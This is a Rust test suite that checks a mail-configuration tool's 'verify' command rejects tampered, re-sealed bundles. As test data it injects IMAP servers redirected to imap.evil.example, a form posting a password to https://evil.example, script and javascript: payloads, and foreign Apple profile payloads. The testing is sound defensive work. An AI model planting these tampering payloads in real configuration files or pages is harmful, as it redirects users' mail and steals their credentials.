//! What an attack on the finished program got past `verify`, each with the answer it must give.

use std::sync::Arc;

use mailmuster::artifact::{Draft, FileName, SignatureFormat};
use mailmuster::sign::identity::IdentityFiles;
use mailmuster::sign::{Identities, Sealer, SelfCheck, Signing, SigningIdentity};
use openssl::asn1::Asn1Time;
use openssl::bn::BigNum;
use openssl::hash::MessageDigest;
use openssl::pkey::PKey;
use openssl::rsa::Rsa;
use openssl::x509::extension::{ExtendedKeyUsage, KeyUsage};
use openssl::x509::{X509, X509NameBuilder};
use sha2::{Digest, Sha256};
use time::macros::datetime;

use super::{BUNDLE, made, reseal};
use crate::support::{ADA, Folder, without_signature};

const PROFILE: &str = "apple/CenturyLink Mail.mobileconfig";
const AUTODISCOVER: &str = "android/autodiscover.xml";

/// The test identity, as the program itself uses it.
fn signing(folder: &Folder) -> Signing {
    let path = |name: &str| folder.path().join("id").join(name);
    let files = IdentityFiles::Pem {
        certificate: path("cert.pem"),
        key: Some(path("key.pem")),
        chain: Some(path("ca.pem")),
    };
    let now = datetime!(2026-11-23 09:00 UTC);
    let identity = Arc::new(SigningIdentity::load(&files, &mut |_| Ok(None), [now; 2]).unwrap());
    let identities = Identities { profiles: Arc::clone(&identity), scripts: identity };
    Signing { identities: Some(identities), time: now, self_check: SelfCheck::On, stamper: None }
}

/// Signs the folder's manifest as it is now, with the right key.
pub(super) fn sign_manifest(folder: &Folder) {
    let digest = Sha256::digest(folder.read("out/manifest.jsonl")).into();
    let signature = signing(folder).detached(&digest).unwrap().unwrap();
    folder.file("out/manifest.jsonl.p7s", signature);
}

/// Replaces text in one file of the bundle, and its digest in the bundle's manifest.
pub(super) fn replace(folder: &Folder, file: &str, from: &str, to: &str) {
    reseal(folder, |name, content| {
        if name != file {
            return content;
        }
        let text = String::from_utf8(content).unwrap();
        assert!(text.contains(from), "{from}");
        text.replacen(from, to, 1).into_bytes()
    });
}

/// R1: the signatures are off and the hosts are others.
#[test]
fn stripped_signatures_never_hold() {
    let folder = made();
    let evil = ["--unsigned", "--set", "imap.host=imap.evil.example", "--quiet"];
    folder.run(["generate", "list.csv", "--out", "evil"].iter().chain(&evil)).exits(0);
    for args in [vec!["--ca", "id/ca.pem"], vec![]] {
        for path in ["evil", "evil/bundles/ada_centurylink.net.zip"] {
            let done = folder.run(["verify", path, "--quiet"].iter().chain(&args)).exits(1);
            assert_eq!(done.stdout.matches(": it is not signed").count(), 2, "{}", done.stdout);
            assert!(!done.stdout.contains("all hold"), "{}", done.stdout);
            done.stdout_has("nothing vouches for START-HERE.html, ");
        }
    }
    let sheet = ["--only", "sheet", "--unsigned", "--quiet"];
    folder.run(["generate", "list.csv", "--out", "sheet"].iter().chain(&sheet)).exits(0);
    folder
        .run(["verify", "sheet/bundles/ada_centurylink.net.zip", "--quiet"])
        .exits(1)
        .stdout_has("nothing in it is signed: nothing vouches for its files");
}

/// R7: another certificate of the same authority, meant for something else.
#[test]
fn not_every_certificate_of_the_authority_may_sign() {
    let folder = Folder::new();
    let key = PKey::from_rsa(Rsa::generate(2048).unwrap()).unwrap();
    let insider = insider(&key);
    folder.file("list.csv", ADA).file(
        "insider.pem",
        [insider.to_pem().unwrap(), key.private_key_to_pem_pkcs8().unwrap()].concat(),
    );
    folder.run(["generate", "list.csv", "--out", "out", "--sign-cert", "insider.pem"]).exits(0);
    let done = folder.run(["verify", "out", "--ca", "insider.pem", "-q"]).exits(1);
    assert_eq!(done.stdout.matches("whose certificate is not for e-mail protection").count(), 2);
    assert_eq!(done.stdout.matches("whose certificate is not for code signing").count(), 1);
    let digest = Sha256::digest(insider.to_der().unwrap());
    let digest: String = digest.iter().map(|byte| format!("{byte:02X}")).collect();
    folder
        .run(["verify", "out", "--signer", &digest])
        .exits(0)
        .stdout_has("all hold for the signer of --signer");
    let other = ["verify", "out", "--ca", "insider.pem", "--signer", "CN=Someone Else"];
    let done = folder.run(other).exits(1);
    assert_eq!(done.stdout.matches("signed it, whom --signer does not name").count(), 3);
    folder.run(other.iter().chain(&["--signer", "CN=Insider"])).exits(0);
    folder
        .run(["verify", "out", "--signer", "CN=Insider"])
        .exits(2)
        .stderr_has("is a subject, which anybody can write into a certificate");
    folder.run(["verify", "out", "--signer", "Insider"]).exits(2).stderr_has("--signer");
}

fn insider(key: &PKey<openssl::pkey::Private>) -> X509 {
    let mut name = X509NameBuilder::new().unwrap();
    name.append_entry_by_text("CN", "Insider").unwrap();
    let name = name.build();
    let mut builder = X509::builder().unwrap();
    builder.set_version(2).unwrap();
    let serial_number = BigNum::from_u32(7).unwrap().to_asn1_integer().unwrap();
    builder.set_serial_number(&serial_number).unwrap();
    builder.set_subject_name(&name).unwrap();
    builder.set_issuer_name(&name).unwrap();
    builder.set_not_before(&Asn1Time::from_unix(1_700_000_000).unwrap()).unwrap();
    builder.set_not_after(&Asn1Time::from_unix(2_400_000_000).unwrap()).unwrap();
    builder.set_pubkey(key).unwrap();
    builder.append_extension(KeyUsage::new().digital_signature().build().unwrap()).unwrap();
    builder.append_extension(ExtendedKeyUsage::new().client_auth().build().unwrap()).unwrap();
    builder.sign(key, MessageDigest::sha256()).unwrap();
    builder.build()
}

/// R8: the settings are read past what was added.
#[test]
fn autodiscover_holds_nothing_but_the_settings() {
    let evil = "<Protocol><Type>IMAP</Type><Server>imap.evil.example</Server><Port>993</Port>\
        <LoginName>a</LoginName><SSL>on</SSL><Encryption>SSL</Encryption></Protocol>";
    for (from, to) in [
        ("<Protocol>", format!("{evil}<Protocol>")),
        ("</Account>", format!("{evil}</Account>")),
        ("<Server>imap", "<Server><![CDATA[]]>imap".to_owned()),
        ("</Server>", "</Server><Server>imap.evil.example</Server>".to_owned()),
        ("<Action>settings", "<Action>redirectUrl".to_owned()),
        ("<Autodiscover", "<!DOCTYPE a [<!ENTITY b \"imap\">]><Autodiscover".to_owned()),
        ("<Port>", "<!-- --><Port>".to_owned()),
        ("\n", "\n\n".to_owned()),
    ] {
        let folder = made();
        replace(&folder, AUTODISCOVER, from, &to);
        let done = folder.run(["verify", BUNDLE, "--ca", "id/ca.pem"]).exits(1);
        done.stdout_has(": android/autodiscover.xml: ");
    }
}

/// The same for autoconfig, where the name of the provider is no setting.
#[test]
fn autoconfig_holds_nothing_but_the_settings_and_the_provider() {
    let evil = "<incomingServer type=\"imap\"><hostname>imap.evil.example</hostname>\
        <port>993</port><socketType>SSL</socketType>\
        <authentication>password-cleartext</authentication>\
        <username>%EMAILADDRESS%</username></incomingServer>";
    for (from, to) in [
        ("<incomingServer", format!("{evil}<incomingServer")),
        ("</emailProvider>", format!("{evil}</emailProvider>")),
        ("</hostname>", "</hostname><hostname>imap.evil.example</hostname>".to_owned()),
        ("<domain>", "<domain>evil.example</domain><domain>".to_owned()),
        ("<clientConfig", "<!DOCTYPE a [<!ENTITY b \"imap\">]><clientConfig".to_owned()),
        (">CenturyLink<", ">Evil<".to_owned()),
        ("<port>993", "<port>994".to_owned()),
        ("%EMAILADDRESS%", "%EMAILLOCALPART%".to_owned()),
        ("password-cleartext", "none".to_owned()),
        ("\n", "\n\n".to_owned()),
    ] {
        let folder = made();
        replace(&folder, "android/config-v1.1.xml", from, &to);
        let done = folder.run(["verify", BUNDLE, "--ca", "id/ca.pem"]).exits(1);
        done.stdout_has(": android/config-v1.1.xml: ");
    }
}

/// R8: the page keeps its settings and asks for the password.
#[test]
fn the_sheet_is_the_one_that_follows_from_the_manifest() {
    for (from, to) in [
        ("</body>", "<form action=\"https://evil.example\"><input name=\"p\" /></form></body>"),
        ("</body>", "<script>alert(1)</script></body>"),
        ("</body>", "<!-- --></body>"),
        ("default-src 'none'", "default-src *"),
    ] {
        let folder = made();
        replace(&folder, "START-HERE.html", from, to);
        let done = folder.run(["verify", BUNDLE, "--ca", "id/ca.pem"]).exits(1);
        done.stdout_has(": START-HERE.html: it is not the file that follows from manifest.json");
    }
    // words that stand in no signed file: they follow from the manifest, which nothing vouches for
    let folder = made();
    replace(&folder, "manifest.json", "\"trust\": \"given\"", "\"trust\": \"development\"");
    let done = folder.run(["verify", BUNDLE, "--ca", "id/ca.pem"]).exits(1);
    done.stdout_has(": START-HERE.html: ");
    let done = made().run(["verify", BUNDLE, "--ca", "id/ca.pem", "-q"]).exits(0);
    done.stdout_has(
        "nothing vouches for START-HERE.html, android/config-v1.1.xml, manifest.json\n",
    );
}

/// A link is a link: a script in the address of a page runs on a click.
#[test]
fn a_provider_that_is_not_built_in_may_not_bring_a_script() {
    let folder = made();
    let provider = |page: &str| format!("\"provider\": \"own\",{page}");
    let card = "\"card\": { \"page\": \"javascript:alert(1)\" }, \"outgoing\"";
    replace(&folder, "manifest.json", "\"provider\": \"centurylink\",", &provider(""));
    replace(&folder, "manifest.json", "\"outgoing\"", card);
    let done = folder.run(["verify", BUNDLE, "--ca", "id/ca.pem"]).exits(1);
    done.stdout_has("a page of the provider is not a link");
    let folder = made();
    replace(&folder, "manifest.json", "\"outgoing\"", &card.replace("javascript:", "https://"));
    let done = folder.run(["verify", BUNDLE, "--ca", "id/ca.pem"]).exits(1);
    done.stdout_has("it describes the built-in provider `centurylink` anew");
}

/// R8, another way: a version that nobody knows cannot be made again.
#[test]
fn another_version_is_no_way_around() {
    let folder = made();
    replace(&folder, "manifest.json", "\"mailmuster 0", "\"mailmuster 99");
    replace(&folder, "START-HERE.html", "</body>", "<script>alert(1)</script></body>");
    let done = folder.run(["verify", BUNDLE, "--ca", "id/ca.pem"]).exits(1);
    done.stdout_has("whose files `mailmuster 0.1.0` cannot make again: nothing vouches for `START-HERE.html`, `android/thunderbird-qr.svg`, `android/thunderbird-qr.png`, `android/thunderbird-account.k9s`, `android/autodiscover.xml`, `android/config-v1.1.xml` and `windows/Set-Mail.cmd`");
    // in the folder of a run its signature vouches, and the answer says how it was compared
    let bytes = folder.read(BUNDLE);
    let manifest = folder.text("out/manifest.jsonl").replace("mailmuster 0", "mailmuster 99");
    let (before, old) = manifest.split_once("\"sha256\":\"").unwrap();
    let digest: String = Sha256::digest(&bytes).iter().map(|byte| format!("{byte:02x}")).collect();
    let (_, after) = old[64..].split_once("\"size\":").unwrap();
    let after = after.trim_start_matches(|c: char| c.is_ascii_digit());
    let line = format!("{before}\"sha256\":\"{digest}\",\"size\":{}{after}", bytes.len());
    folder.file("out/manifest.jsonl", line);
    sign_manifest(&folder);
    let done = folder.run(["verify", "out", "--ca", "id/ca.pem"]).exits(0);
    done.stdout_has("compared by what they say, not made again: bundles of mailmuster 99.1.0\n");
}

/// R12: the right person signed a profile with a foreign payload or key.
#[test]
fn a_signed_profile_holds_nothing_foreign() {
    for (from, to, why) in [
        (
            "com.apple.mail.managed",
            "com.apple.security.root",
            "it has a payload `com.apple.security.root`, which mailmuster never writes",
        ),
        (
            "<key>PayloadVersion</key>",
            "<key>PayloadContent</key><data>AAAA</data><key>PayloadVersion</key>",
            "unknown field `PayloadContent`",
        ),
        (
            "<key>PayloadScope</key>",
            "<key>PayloadRemovalDisallowed</key><true/><key>PayloadScope</key>",
            "unknown field `PayloadRemovalDisallowed`",
        ),
        ("Removing this profile", "Removing", "it is not the profile that mailmuster writes"),
        (
            "<key>PayloadContent</key>",
            "<!-- --><key>PayloadContent</key>",
            "it is not the profile that mailmuster writes",
        ),
    ] {
        let folder = made();
        let mut sealer = Sealer::new(&signing(&folder)).unwrap();
        reseal(&folder, |name, content| {
            if name != PROFILE {
                return content;
            }
            let text = String::from_utf8(without_signature(&content)).unwrap();
            assert!(text.contains(from), "{from}");
            let draft = Draft {
                file_name: FileName::new(["x"]),
                content: text.replacen(from, to, 1).into_bytes().into(),
                signature: SignatureFormat::CmsAttached,
            };
            sealer.seal(draft).unwrap().content().to_vec()
        });
        folder.file("lone.mobileconfig", folder.in_bundle(BUNDLE, PROFILE));
        for path in [BUNDLE, "lone.mobileconfig"] {
            folder.run(["verify", path, "--ca", "id/ca.pem"]).exits(1).stdout_has(why);
        }
    }
    let folder = made();
    for file in [PROFILE, "windows/Set-MailAccount.ps1"] {
        folder.file("lone", folder.in_bundle(BUNDLE, file));
        folder.run(["verify", "lone", "--ca", "id/ca.pem"]).exits(0);
    }
}
